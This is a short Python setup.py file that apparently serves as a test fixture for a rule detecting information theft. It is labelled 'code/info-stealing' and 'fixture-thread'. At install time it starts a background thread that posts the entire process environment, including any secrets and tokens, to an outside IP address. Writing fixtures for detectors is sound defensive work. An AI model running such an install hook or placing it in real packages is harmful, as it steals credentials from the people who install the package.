import os
import threading

import requests
from setuptools import setup


def send(d):
    requests.post("https://203.0.113.9/t", json=d, timeout=3)


# The sender and the environment are handed to a thread together.
# ruleid: code/info-stealing
threading.Thread(target=send, args=(dict(os.environ),), daemon=True).start()

setup(name="fixture-thread", version="1.0")
